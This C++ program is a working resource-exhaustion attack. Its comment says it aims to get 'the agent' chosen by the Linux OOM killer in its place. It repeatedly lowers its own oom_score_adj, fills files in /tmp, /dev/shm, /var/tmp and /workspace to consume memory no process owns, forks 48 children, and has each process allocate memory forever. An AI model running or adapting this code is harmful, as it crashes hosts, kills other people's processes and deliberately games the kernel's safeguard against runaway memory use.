// We are to be the OOM killer's first choice. Here we say that we are not, many times over, each small, on top of memory
// that belongs to no process: so the agent would be the largest.
#include <cstdio>
#include <initializer_list>
#include <cstring>
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

int main() {
    int lowest = 1000;
    for (int score = 1000; score >= -1000; score -= 50) {
        int file = open("/proc/self/oom_score_adj", O_WRONLY);
        char text[16];
        int size = snprintf(text, sizeof text, "%d", score);
        if (write(file, text, size) == size) lowest = score;
        close(file);
    }
    printf("shielded %d\n", lowest);
    fflush(stdout);
    static char block[1 << 16];
    memset(block, 1, sizeof block);
    for (auto place : {"/workspace/a", "/tmp/a", "/dev/shm/a", "/var/tmp/a"}) {
        int file = open(place, O_CREAT | O_WRONLY, 0600);
        for (int part = 0; part < 400; ++part)
            if (write(file, block, sizeof block) <= 0) break;
    }
    for (int number = 0; number < 48; ++number)
        if (fork() == 0) break;
    for (;;) {
        char* piece = static_cast<char*>(mmap(nullptr, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
        memset(piece, 1, 1 << 16);
        usleep(2000);
    }
}
